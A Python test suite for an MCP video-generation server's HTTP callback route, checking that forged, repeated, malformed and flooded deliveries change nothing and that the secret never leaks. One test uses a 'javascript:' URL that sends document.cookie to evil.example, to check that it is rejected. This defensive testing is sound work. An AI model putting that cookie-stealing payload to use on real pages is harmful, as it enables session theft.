"""Callbacks over HTTP: the provider (the simulator) POSTs the finished video to our route,
which records it and wakes the waiting call; forged, repeated and malformed deliveries change
nothing; the secret is never written anywhere in clear.

The poll schedule is 30 s here (first look and every look), so no poll can explain an answer
that comes within a second of the video finishing: without the callback, a 20-s wait ends
with the task still processing.
"""

from __future__ import annotations

import hashlib
import json
import logging
import secrets
import sqlite3
import time
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import anyio
import httpx
import pytest
from mcp import Client
from mcp.types import CallToolResult
from starlette.requests import Request
from starlette.responses import Response
from starlette.types import Receive, Scope, Send

from luma_mcp.api.errors import LumaRequestError
from luma_mcp.core.callback_urls import CallbackIssuer, callback_hash
from luma_mcp.core.ledger import SQLiteLedger
from luma_mcp.core.ledger.postgres import FINISHED_CHANNEL
from luma_mcp.core.results import TaskResult
from luma_mcp.hosting.app import create_http_app
from luma_mcp.hosting.callbacks import MISSES_PER_MINUTE
from luma_mcp.simulator.app import ServerThread, Simulator, SimulatorServer

from ..helpers.common import CANARY_TOKEN, example, make_settings, raw_sql, text_of
from ..helpers.http import TOKEN_A, HttpServer, client, free_port, http_env

pytestmark = pytest.mark.anyio

SLOW_POLLS = {"LUMA_POLL_INITIAL_SECONDS": "30", "LUMA_POLL_MAX_SECONDS": "30"}
WAKE_WITHIN_SECONDS = 1.0
LISTENER = "luma-mcp listen"  # the LISTEN connection's application_name


@contextmanager
def callback_server(api_url: str, token: str | None = CANARY_TOKEN, **env: Any) -> Iterator[ServerThread]:
    """The HTTP app in this process (so caplog sees its logs), on loopback, with its public
    URL set (callbacks on) and polls 30 s apart."""
    port = free_port()
    settings = make_settings(api_url, token, LUMA_MCP_PUBLIC_URL=f"http://127.0.0.1:{port}", **SLOW_POLLS, **env)
    with ServerThread(create_http_app(settings, port=port), port=port, lifespan=True) as server:
        yield server


def callback_url(sim: Simulator, prompt: str) -> str:
    """The callback URL the server sent with the submit of `prompt`."""
    [body] = [b for b in sim.submits() if b.get("prompt") == prompt]
    return str(body["callback_url"])


def secret_in(url: str) -> str:
    return url.rsplit("/", 1)[1]


def task_reads(sim: Simulator, task_id: str) -> int:
    """Upstream reads of one task (alone or in a batch)."""
    return sum(
        1
        for r in sim.requests
        if r.path == "/luma/tasks" and (r.body.get("id") == task_id or task_id in (r.body.get("ids") or []))
    )


def succeeded_body(sim_url: str, task_id: str) -> dict[str, Any]:
    """Ace Data Cloud's documented callback body for a finished video, for this task."""
    documented = example("callback-payload-success.json")
    return {**documented, "task_id": task_id, "video_url": f"{sim_url}/media/{task_id}.mp4"}


async def deliver(server: ServerThread, secret: str, body: Any) -> httpx.Response:
    """POST a callback body (bytes as they are, anything else as JSON), as the provider would."""
    content = body if isinstance(body, bytes) else json.dumps(body).encode()
    async with httpx.AsyncClient(timeout=10) as http:
        return await http.post(f"{server.url}/callbacks/luma/{secret}", content=content)


async def until(condition: Callable[[], bool], seconds: float, what: str) -> None:
    """Wait for something another thread or process does, bounded in time."""
    with anyio.fail_after(seconds):
        while not condition():  # noqa: ASYNC110 (set by another thread or process: look again)
            await anyio.sleep(0.05)


def rows(ledger: Path) -> list[tuple[Any, ...]]:
    with sqlite3.connect(ledger) as db:
        return db.execute("SELECT * FROM tasks ORDER BY row_id").fetchall()


def every_cell(ledger: Path) -> list[str]:
    """Every value of every table of an SQLite ledger, as text."""
    with sqlite3.connect(ledger) as db:
        tables = [name for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        return [str(cell) for table in tables for row in db.execute(f'SELECT * FROM "{table}"') for cell in row]  # noqa: S608


def task_of(result: CallToolResult) -> TaskResult:
    assert not result.is_error, text_of(result)
    return TaskResult.model_validate(result.structured_content)


async def test_a_waiting_call_answers_within_a_second_of_the_video_finishing(sim_server: SimulatorServer) -> None:
    sim = sim_server.simulator
    sim.processing_seconds = 3
    with callback_server(sim_server.url) as server:
        async with client(server.url) as remote:
            made = await remote.call_tool("generate_video", {"prompt": "Waves at dusk", "wait_seconds": 20})
            answered_at = time.time()
    task = task_of(made)
    assert task.status == "succeeded", task  # polling alone: still processing after 20 s
    late = answered_at - sim.tasks[task.task_id].finishes_at
    assert 0 <= late < WAKE_WITHIN_SECONDS, f"answered {late:.2f} s after the video finished"
    assert task_reads(sim, task.task_id) == 0  # woken, it read the ledger: no poll, no upstream read
    [delivered] = sim.callbacks
    assert delivered["url"].startswith(f"{server.url}/callbacks/luma/")


async def test_only_the_right_secret_for_the_right_task_records_anything(
    sim_server: SimulatorServer, private_folders: Path
) -> None:
    sim = sim_server.simulator
    sim.processing_seconds = 120  # the simulator's own callback comes long after this test
    ledger = private_folders / "ledger.sqlite3"
    with callback_server(sim_server.url) as server:
        async with client(server.url) as remote:
            task_id = task_of(await remote.call_tool("generate_video", {"prompt": "One", "wait_seconds": 0})).task_id
            other_id = task_of(await remote.call_tool("generate_video", {"prompt": "Two", "wait_seconds": 0})).task_id
            secret = secret_in(callback_url(sim, "One"))
            before = rows(ledger)
            # A guessed secret, even with the right task id and a plausible body: 404, nothing written.
            guessed = secrets.token_urlsafe(32)
            assert (await deliver(server, guessed, succeeded_body(sim_server.url, task_id))).status_code == 404
            # The right secret for another task: a leaked secret writes its own task, no other.
            assert (await deliver(server, secret, succeeded_body(sim_server.url, other_id))).status_code == 404
            assert rows(ledger) == before
            # The forgery left no trace.
            seen = await remote.call_tool("get_task", {"task_id": task_id})
            assert seen.structured_content["tasks"][0]["status"] in {"pending", "processing"}
            # The right secret and task: recorded, and the next read comes from the ledger.
            assert (await deliver(server, secret, succeeded_body(sim_server.url, task_id))).status_code == 204
            reads = task_reads(sim, task_id)
            done = await remote.call_tool("get_task", {"task_id": task_id})
            assert done.structured_content["tasks"][0]["status"] == "succeeded"
            assert task_reads(sim, task_id) == reads
            after = rows(ledger)
            # Delivered again, or contradicted later: 204 (so the provider stops), and nothing moves.
            assert (await deliver(server, secret, succeeded_body(sim_server.url, task_id))).status_code == 204
            failed = {"success": False, "task_id": task_id, "error": {"code": "api_error", "message": "late"}}
            assert (await deliver(server, secret, failed)).status_code == 204
            assert rows(ledger) == after
            # The forgery did not touch the other task either.
            untouched = await remote.call_tool("get_task", {"task_id": other_id})
            assert untouched.structured_content["tasks"][0]["status"] == "pending"
            # The documented failure body, through the other task's own secret.
            failure = {**example("platform-generic-callback-failure.json"), "task_id": other_id, "trace_id": "tr-1"}
            failure["error"] = {"code": "api_error", "message": "The video provider failed."}
            assert (await deliver(server, secret_in(callback_url(sim, "Two")), failure)).status_code == 204
            [failed_task] = (await remote.call_tool("get_task", {"task_id": other_id})).structured_content["tasks"]
            assert failed_task["status"] == "failed" and failed_task["error"] == {
                "code": "api_error",
                "message": "The video provider failed.",
                "trace_id": "tr-1",
            }


async def test_a_delivered_javascript_url_reaches_no_result_or_row(
    sim_server: SimulatorServer, private_folders: Path
) -> None:
    """A genuine delivery (its own secret and task) whose video and thumbnail are `javascript:`
    URLs: taken, recorded as failed with the reason, and no result or ledger cell holds them."""
    sim_server.simulator.processing_seconds = 120
    evil = "javascript:fetch('https://evil.example/?'+document.cookie)"
    with callback_server(sim_server.url) as server:
        async with client(server.url) as remote:
            task_id = task_of(await remote.call_tool("generate_video", {"prompt": "Evil", "wait_seconds": 0})).task_id
            body = {**succeeded_body(sim_server.url, task_id), "video_url": evil, "thumbnail_url": evil}
            assert (
                await deliver(server, secret_in(callback_url(sim_server.simulator, "Evil")), body)
            ).status_code == 204
            seen = [await remote.call_tool("get_task", {"task_id": task_id}), await remote.call_tool("list_tasks", {})]
    [task] = seen[0].structured_content["tasks"]
    assert task["status"] == "failed" and task["error"]["code"] == "unusable_video_url"
    for result in seen:
        assert "javascript" not in text_of(result) and "javascript" not in json.dumps(result.structured_content)
    assert all("javascript" not in cell for cell in every_cell(private_folders / "ledger.sqlite3"))


async def test_malformed_deliveries_are_refused_before_the_ledger(
    sim_server: SimulatorServer, private_folders: Path
) -> None:
    sim_server.simulator.processing_seconds = 120
    with callback_server(sim_server.url) as server:
        async with client(server.url) as remote:
            task_id = task_of(await remote.call_tool("generate_video", {"prompt": "Kept", "wait_seconds": 0})).task_id
        secret = secret_in(callback_url(sim_server.simulator, "Kept"))
        before = rows(private_folders / "ledger.sqlite3")
        body = succeeded_body(sim_server.url, task_id)
        assert (await deliver(server, "not-a-secret", body)).status_code == 400
        assert (await deliver(server, secret + "x", body)).status_code == 400
        assert (await deliver(server, secret, b"{not json")).status_code == 400
        assert (await deliver(server, secret, b"[1, 2]")).status_code == 400
        assert (await deliver(server, secret, b"[" * 60000)).status_code == 400  # too deep for json: no 500
        # A JSON object of a shape we do not know: taken (204), only wakes waits here to look upstream.
        assert (await deliver(server, secret, {"task_id": task_id, "progress": 0.5})).status_code == 204
        oversized = json.dumps({**body, "padding": "x" * 65536}).encode()
        assert (await deliver(server, secret, oversized)).status_code == 413

        async def trickle() -> AsyncIterator[bytes]:  # chunked, no Content-Length: cut off once over the bound
            yield json.dumps(body).encode()
            for _ in range(10):
                yield b" " * 8192

        url = f"{server.url}/callbacks/luma/{secret}"
        async with httpx.AsyncClient(timeout=10) as http:
            assert (await http.post(url, content=trickle())).status_code == 413
            assert (await http.get(url)).status_code == 405
        assert rows(private_folders / "ledger.sqlite3") == before


async def test_a_callback_of_unknown_shape_makes_the_waiting_call_look_upstream(sim_server: SimulatorServer) -> None:
    """The provider's real body may not be the one we know: such a delivery only wakes the
    wait, whose next look must then ask the API (not answer from what it read before, as its
    looks on schedule may once callbacks are seen to arrive)."""
    sim = sim_server.simulator
    sim.processing_seconds = 120  # the simulator's own callbacks come long after this test
    with callback_server(sim_server.url) as server:
        async with client(server.url) as remote:
            warm = task_of(await remote.call_tool("generate_video", {"prompt": "Warm", "wait_seconds": 0}))
            genuine = succeeded_body(sim_server.url, warm.task_id)
            assert (await deliver(server, secret_in(callback_url(sim, "Warm")), genuine)).status_code == 204
            answers: list[CallToolResult] = []

            async def wait_for_it() -> None:
                answers.append(await remote.call_tool("generate_video", {"prompt": "Late", "wait_seconds": 20}))

            async with anyio.create_task_group() as tg:
                tg.start_soon(wait_for_it)
                await until(lambda: any(b.get("prompt") == "Late" for b in sim.submits()), 5, "the submit")
                await anyio.sleep(1.5)  # the call is waiting, past the 1-s floor between reads of a task
                [late] = [t for t in sim.tasks.values() if t.request.get("prompt") == "Late"]
                late.starts_at = late.finishes_at = time.time()  # done upstream; its own callback far off
                body = {"task_id": late.id, "progress": 1.0}  # a shape we do not know
                delivered_at = time.monotonic()
                assert (await deliver(server, secret_in(callback_url(sim, "Late")), body)).status_code == 204
            took = time.monotonic() - delivered_at
    assert task_of(answers[0]).status == "succeeded"  # polls 30 s apart: only the woken look explains it
    assert took < WAKE_WITHIN_SECONDS * 2, f"answered {took:.2f} s after the wake"


async def test_a_callback_finds_again_a_task_whose_submit_answer_was_lost(
    sim_server: SimulatorServer, private_folders: Path
) -> None:
    """The API took the submit but its answer never arrived: the row reads `lost`, with no task
    id. The provider's callback, by that row's own secret, names the task that was paid for."""
    sim = sim_server.simulator
    sim.processing_seconds = 1.0
    sim.inject("drop", "/luma/videos", after_processing=True)
    with callback_server(sim_server.url) as server:
        async with client(server.url) as remote:
            dropped = await remote.call_tool("generate_video", {"prompt": "Dropped", "wait_seconds": 0})
            assert dropped.is_error and "lost" in text_of(dropped)
            [task] = sim.tasks.values()
            await until(lambda: bool(sim.callbacks), 10, "the simulator's callback")
            listed = (await remote.call_tool("list_tasks", {})).structured_content
            assert listed is not None
            assert [(t["task_id"], t["status"]) for t in listed["tasks"]] == [(task.id, "succeeded")]
            found = await remote.call_tool("get_task", {"task_id": task.id})
            assert found.structured_content is not None and found.structured_content["tasks"][0]["video_url"]
    assert sim.count("/luma/videos") == 1


async def test_a_flood_of_unknown_secrets_is_cut_off(sim_server: SimulatorServer, private_folders: Path) -> None:
    with callback_server(sim_server.url) as server:
        started = time.monotonic()
        answers = [await deliver(server, secrets.token_urlsafe(32), {"task_id": "x"}) for _ in range(60)]
        took = time.monotonic() - started
    codes = [a.status_code for a in answers]
    # 30 misses at once, then one every 2 s as the address's budget refills (30 a minute).
    assert codes[:30] == [404] * 30 and set(codes) == {404, 429}, codes
    assert codes.count(404) <= 30 + took / 2 + 1, (took, codes)
    refused = next(a for a in answers if a.status_code == 429)
    assert int(refused.headers["retry-after"]) >= 1
    assert rows(private_folders / "ledger.sqlite3") == []


async def test_an_address_over_its_miss_budget_still_delivers_genuine_callbacks(sim_server: SimulatorServer) -> None:
    """The provider's address, behind the same proxy as a guesser (or guessing itself), has
    spent its misses: its misses get 429, its genuine deliveries are still taken."""
    sim_server.simulator.processing_seconds = 120

    async def guess_until_refused(server: ServerThread, most: int) -> list[int]:
        codes: list[int] = []
        while not codes or (codes[-1] != 429 and len(codes) < most):
            codes.append((await deliver(server, secrets.token_urlsafe(32), {"task_id": "x"})).status_code)
        return codes

    with callback_server(sim_server.url) as server:
        async with client(server.url) as remote:
            task_id = task_of(await remote.call_tool("generate_video", {"prompt": "Mine", "wait_seconds": 0})).task_id
            assert (await guess_until_refused(server, 2 * MISSES_PER_MINUTE))[-1] == 429
            secret = secret_in(callback_url(sim_server.simulator, "Mine"))
            genuine = await deliver(server, secret, succeeded_body(sim_server.url, task_id))
            again = await guess_until_refused(server, 5)  # a token or two refilled meanwhile, no more
            [done] = (await remote.call_tool("get_task", {"task_id": task_id})).structured_content["tasks"]
    assert genuine.status_code == 204 and done["status"] == "succeeded"
    assert again[-1] == 429  # misses still spend the address's budget


def task_id_written(ledger: Path, prompt: str) -> bool:
    """Whether the submit of `prompt` has its task id in the ledger (a callback before it gets 503)."""
    with sqlite3.connect(ledger) as db:
        found = db.execute("SELECT task_id FROM tasks WHERE json_extract(params, '$.prompt') = ?", (prompt,))
        return any(task_id for (task_id,) in found.fetchall())


async def test_guesses_from_many_addresses_never_refuse_a_genuine_delivery(
    sim_server: SimulatorServer, private_folders: Path
) -> None:
    """25 addresses (forwarded by a trusted loopback proxy) send 750 guesses, more than the old
    overall budget of 600 misses a minute let through. Then the provider's deliveries, from a
    fresh address and from one that guessed too, are taken at once, and the one a call is
    waiting on wakes it. (An address over its own budget: the test before.)"""
    sim = sim_server.simulator
    sim.processing_seconds = 120  # the simulator's own callbacks come long after this test
    ledger = private_folders / "ledger.sqlite3"
    guessers = [f"203.0.113.{n}" for n in range(1, 26)]
    misses = 750
    codes: dict[str, list[int]] = {address: [] for address in guessers}
    answers: list[CallToolResult] = []
    with callback_server(sim_server.url) as server:
        async with client(server.url) as remote, httpx.AsyncClient(timeout=30) as http:
            other = task_of(await remote.call_tool("generate_video", {"prompt": "Other", "wait_seconds": 0}))

            async def post(secret: str, body: Any, address: str) -> int:
                sent = {"X-Forwarded-For": address}
                url = f"{server.url}/callbacks/luma/{secret}"
                return (await http.post(url, content=json.dumps(body).encode(), headers=sent)).status_code

            async def guess(address: str, stop: anyio.Event) -> None:
                while not stop.is_set():
                    codes[address].append(await post(secrets.token_urlsafe(32), {"task_id": "x"}, address))

            async def wait_for_it() -> None:
                answers.append(await remote.call_tool("generate_video", {"prompt": "Waited", "wait_seconds": 30}))

            stop = anyio.Event()
            async with anyio.create_task_group() as flood:
                for address in guessers:
                    flood.start_soon(guess, address, stop)
                await until(lambda: sum(map(len, codes.values())) >= misses, 120, "the guesses")
                stop.set()
            async with anyio.create_task_group() as tg:
                tg.start_soon(wait_for_it)
                await until(lambda: task_id_written(ledger, "Waited"), 20, "the submit's task id")
                [waited] = [t for t in sim.tasks.values() if t.request.get("prompt") == "Waited"]
                waited_secret, other_secret = (
                    secret_in(callback_url(sim, "Waited")),
                    secret_in(callback_url(sim, "Other")),
                )
                delivered_at = time.monotonic()
                genuine = [
                    await post(waited_secret, succeeded_body(sim_server.url, waited.id), "198.51.100.9"),
                    await post(other_secret, succeeded_body(sim_server.url, other.task_id), guessers[0]),
                ]
            took = time.monotonic() - delivered_at
            assert genuine == [204, 204]
            [done] = (await remote.call_tool("get_task", {"task_id": other.task_id})).structured_content["tasks"]
    assert task_of(answers[0]).status == "succeeded"  # polls 30 s apart: only the delivery explains it
    assert took < WAKE_WITHIN_SECONDS * 2, f"answered {took:.2f} s after the delivery"
    assert done["status"] == "succeeded"
    for address, seen in codes.items():  # each address's own budget still holds for its guesses
        assert set(seen[:MISSES_PER_MINUTE]) == {404} and set(seen) <= {404, 429}, (address, seen)


async def test_the_secret_is_in_no_log_row_or_result(
    sim_server: SimulatorServer, private_folders: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    sim = sim_server.simulator
    sim.processing_seconds = 1
    with callback_server(sim_server.url, LUMA_LOG_LEVEL="DEBUG") as server:
        async with client(server.url) as remote:
            results = [await remote.call_tool("generate_video", {"prompt": "Canary", "wait_seconds": 20})]
            task_id = task_of(results[0]).task_id
            results.append(await remote.call_tool("get_task", {"task_id": task_id}))
            results.append(await remote.call_tool("list_tasks", {}))
    assert task_of(results[0]).status == "succeeded"
    url = callback_url(sim, "Canary")
    secret = secret_in(url)
    for result in results:
        assert secret not in text_of(result) and secret not in json.dumps(result.structured_content)
    # Every log line of this process but the provider's own (the simulator and its HTTP client
    # POSTing the callback: the provider's side, which knows the URL anyway).
    ours = [
        r
        for r in caplog.records
        if r.name != "luma_mcp.simulator.app"
        and not (r.name.startswith("httpx") and "/callbacks/luma/" in r.getMessage())
    ]
    assert any(r.name.startswith("luma_mcp") for r in ours)
    for record in ours:
        assert secret not in record.getMessage() and secret not in (record.exc_text or ""), record.getMessage()
    ledger = private_folders / "ledger.sqlite3"
    assert all(secret not in cell for cell in every_cell(ledger))
    for path in private_folders.glob("ledger.sqlite3*"):  # the file and its WAL, byte for byte
        assert secret.encode() not in path.read_bytes()
    with sqlite3.connect(ledger) as db:
        [(stored_hash, params)] = db.execute("SELECT callback_hash, params FROM tasks").fetchall()
    assert stored_hash == hashlib.sha256(secret.encode()).hexdigest()
    assert "callback_url" not in json.loads(params)  # the duplicate check sees the caller's request


async def test_a_callers_own_callback_url_is_sent_as_given_and_ours_is_not_made(
    private_folders: Path,
) -> None:
    sim = Simulator(queue_seconds=0.1, processing_seconds=0.5)
    caught: list[dict[str, Any]] = []

    async def api(scope: Scope, receive: Receive, send: Send) -> None:
        """The simulator, with a catcher for the caller's own callback on the same origin."""
        if scope["type"] == "http" and scope["path"] == "/catch":
            caught.append(await Request(scope, receive).json())
            await Response(status_code=204)(scope, receive, send)
            return
        await sim(scope, receive, send)

    with ServerThread(api) as upstream, callback_server(upstream.url) as server:
        async with client(server.url) as remote:
            made = await remote.call_tool(
                "generate_video", {"prompt": "Mine", "callback_url": f"{upstream.url}/catch", "wait_seconds": 0}
            )
            task_id = task_of(made).task_id
            await until(lambda: bool(caught), 10, "the caller's own callback")
    assert caught[0]["task_id"] == task_id and caught[0]["state"] == "completed"
    assert [b["callback_url"] for b in sim.submits()] == [f"{upstream.url}/catch"]
    with sqlite3.connect(private_folders / "ledger.sqlite3") as db:
        assert db.execute("SELECT callback_hash FROM tasks").fetchall() == [(None,)]


# --- replicas on PostgreSQL -------------------------------------------------------------


def listeners(postgres_url: str) -> set[int]:
    """The backends of the LISTEN connections (of every process) on the server."""
    found = raw_sql(postgres_url, "SELECT pid FROM pg_stat_activity WHERE application_name = ?", (LISTENER,))
    return {pid for (pid,) in found}


def terminate_listeners(postgres_url: str) -> set[int]:
    """Kill every LISTEN connection from the server's side (as a restart or a failover would)."""
    killed = listeners(postgres_url)
    raw_sql(
        postgres_url, "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE application_name = ?", (LISTENER,)
    )
    return killed


def every_pg_cell(postgres_url: str) -> list[str]:
    """Every value of every table of a PostgreSQL ledger, as text."""
    tables = raw_sql(postgres_url, "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'")
    return [
        str(cell)
        for (table,) in tables
        for row in raw_sql(postgres_url, f'SELECT * FROM "{table}"')  # noqa: S608 (names from the catalogue)
        for cell in row
    ]


async def test_a_callback_landing_on_another_replica_wakes_the_wait(
    sim_server: SimulatorServer, postgres_url: str
) -> None:
    """The waiting call is on A; the public URL is B's, so the provider calls B back. B records
    the result, PostgreSQL tells A, A answers. Then both LISTEN connections are killed: they
    come back, and a later callback still wakes A."""
    sim = sim_server.simulator
    sim.processing_seconds = 3
    port_b = free_port()
    env = http_env(sim_server, ACEDATACLOUD_API_TOKEN="t", LUMA_LEDGER_URL=postgres_url, LUMA_LOG_LEVEL="DEBUG")
    env |= {**SLOW_POLLS, "LUMA_MCP_PUBLIC_URL": f"http://127.0.0.1:{port_b}"}
    a, b = HttpServer(env).wait_ready(), HttpServer(env, port=port_b).wait_ready()

    async def answered_at_once(remote: Client, prompt: str) -> None:
        made = await remote.call_tool("generate_video", {"prompt": prompt, "wait_seconds": 20})
        answered_at = time.time()
        task = task_of(made)
        assert task.status == "succeeded", (prompt, task)
        late = answered_at - sim.tasks[task.task_id].finishes_at
        assert 0 <= late < WAKE_WITHIN_SECONDS, f"{prompt}: answered {late:.2f} s after the video finished"
        assert task_reads(sim, task.task_id) == 0  # woken, it read the ledger: no poll, no upstream read

    try:
        await until(lambda: len(listeners(postgres_url)) == 2, 10, "both replicas listening")
        async with client(a.url) as remote:
            await answered_at_once(remote, "Before the cut")
            killed = terminate_listeners(postgres_url)
            await until(lambda: len(listeners(postgres_url) - killed) == 2, 15, "both listening again")
            await answered_at_once(remote, "After the cut")
        # The simulator notes a delivery once its POST is answered, just after the wake.
        await until(lambda: len(sim.callbacks) == 2, 5, "the simulator's second delivery")
        assert all(c["url"].startswith(f"{b.url}/callbacks/luma/") for c in sim.callbacks)
    finally:
        _, stderr_a = a.stop()
        _, stderr_b = b.stop()
    assert "Listening for finished tasks on" in stderr_a and "again" in stderr_a
    cells = every_pg_cell(postgres_url)
    for secret in [secret_in(c["url"]) for c in sim.callbacks]:
        assert secret not in stderr_a and secret not in stderr_b
        assert all(secret not in cell for cell in cells)


async def test_the_listener_wakes_every_waiter_once_each_time_it_starts_listening(postgres_url: str) -> None:
    from luma_mcp.core.ledger.listen import listen_for_finishes

    class Recorder:
        def __init__(self) -> None:
            self.woken: list[str] = []
            self.all_woken = 0

        def wake(self, task_ids: Any) -> None:
            self.woken += list(task_ids)

        def wake_all(self) -> None:
            self.all_woken += 1

    def notify(task_id: str) -> None:
        raw_sql(postgres_url, "SELECT pg_notify(?, ?)", (FINISHED_CHANNEL, task_id))

    recorder = Recorder()
    async with anyio.create_task_group() as tg:
        tg.start_soon(listen_for_finishes, postgres_url, recorder)
        await until(lambda: bool(listeners(postgres_url)), 10, "listening")
        await anyio.to_thread.run_sync(notify, "first")
        await until(lambda: recorder.woken == ["first"], 5, "the first wake")
        assert recorder.all_woken == 1  # waits begun before it listened: announced to nobody
        killed = await anyio.to_thread.run_sync(terminate_listeners, postgres_url)
        await until(lambda: bool(listeners(postgres_url) - killed) and recorder.all_woken > 1, 15, "listening again")
        await anyio.to_thread.run_sync(notify, "second")
        await until(lambda: recorder.woken == ["first", "second"], 5, "the wake after the cut")
        assert recorder.all_woken == 2  # once more per reconnect
        tg.cancel_scope.cancel()


# --- when callbacks are off ---------------------------------------------------------------


async def test_callbacks_turned_off_leave_submits_and_rows_as_before(
    sim_server: SimulatorServer, private_folders: Path
) -> None:
    with callback_server(sim_server.url, LUMA_MCP_CALLBACKS=False) as server:
        async with client(server.url) as remote:
            task_of(await remote.call_tool("generate_video", {"prompt": "Off", "wait_seconds": 0}))
        refused = await deliver(server, secrets.token_urlsafe(32), {})
        assert refused.status_code == 404 and "Unknown callback" not in refused.text  # no such route
    assert ["callback_url" in body for body in sim_server.simulator.submits()] == [False]
    with sqlite3.connect(private_folders / "ledger.sqlite3") as db:
        assert db.execute("SELECT callback_hash FROM tasks").fetchall() == [(None,)]


def test_a_loopback_public_url_with_a_remote_api_turns_callbacks_off_and_says_so(
    caplog: pytest.LogCaptureFixture,
) -> None:
    settings = make_settings("https://api.acedata.cloud", LUMA_MCP_PUBLIC_URL="http://127.0.0.1:8000")
    app = create_http_app(settings, port=8000)
    assert not any(getattr(route, "path", "").startswith("/callbacks/") for route in app.router.routes)
    [warning] = [r for r in caplog.records if r.levelno == logging.WARNING and "callbacks are off" in r.getMessage()]
    assert "LUMA_MCP_PUBLIC_URL" in warning.getMessage() and "cannot reach" in warning.getMessage()
    served = create_http_app(make_settings("https://api.acedata.cloud", LUMA_MCP_PUBLIC_URL="https://mcp.example.com"))
    assert any(getattr(route, "path", "").startswith("/callbacks/") for route in served.router.routes)


async def test_a_callback_before_the_task_id_is_written_asks_to_be_sent_again(
    sim_server: SimulatorServer, private_folders: Path
) -> None:
    """The provider answered the submit, but its answer is not in the ledger yet: 503 with
    Retry-After (the provider tries again), and nothing written."""
    secret = secrets.token_urlsafe(32)
    with callback_server(sim_server.url) as server:
        writer = SQLiteLedger(private_folders / "ledger.sqlite3")
        await writer.for_tenant("").reserve("generate", {"prompt": "Early"}, callback_hash=callback_hash(secret))
        before = rows(private_folders / "ledger.sqlite3")
        answer = await deliver(server, secret, succeeded_body(sim_server.url, "not-yet-known"))
        writer.close()
    assert answer.status_code == 503 and answer.headers["retry-after"] == "1"
    assert rows(private_folders / "ledger.sqlite3") == before


def test_an_api_error_quoting_the_callback_url_loses_the_secret() -> None:
    callback = CallbackIssuer("https://mcp.example.com").issue()
    error = LumaRequestError(f"callback_url {callback.url} is not reachable", status_code=400)
    callback.scrub(error)
    assert callback.secret not in str(error) and callback.secret not in repr(error.args)
    assert "https://mcp.example.com/callbacks/luma/[callback secret] is not reachable" in str(error)
    assert callback.secret not in repr(callback)


async def test_a_retried_identical_request_is_still_the_same_task(sim_server: SimulatorServer) -> None:
    """Each submit gets a fresh secret, but only its hash goes into the row: the request the
    duplicate check compares is the caller's, so a host's retry pays nothing more."""
    sim_server.simulator.processing_seconds = 120
    with callback_server(sim_server.url) as server:
        async with client(server.url) as remote:
            first, again = [
                task_of(await remote.call_tool("generate_video", {"prompt": "Retried", "wait_seconds": 0}))
                for _ in range(2)
            ]
    assert again.task_id == first.task_id and again.note and "nothing new was paid" in again.note
    assert len(sim_server.simulator.submits()) == 1


async def test_a_passthrough_callers_wait_wakes_on_their_own_tasks_callback(sim_server: SimulatorServer) -> None:
    """The route names no tenant: it records through the row's own (a hash of the caller's
    token), which is the view the caller's wait watches."""
    sim = sim_server.simulator
    sim.processing_seconds = 2
    with callback_server(sim_server.url, token=None, LUMA_MCP_AUTH="passthrough") as server:
        async with client(server.url, TOKEN_A) as remote:
            made = await remote.call_tool("generate_video", {"prompt": "Mine alone", "wait_seconds": 20})
            answered_at = time.time()
    task = task_of(made)
    assert task.status == "succeeded", task
    assert answered_at - sim.tasks[task.task_id].finishes_at < WAKE_WITHIN_SECONDS
    assert task_reads(sim, task.task_id) == 0  # the answer came from the ledger, in the caller's tenant
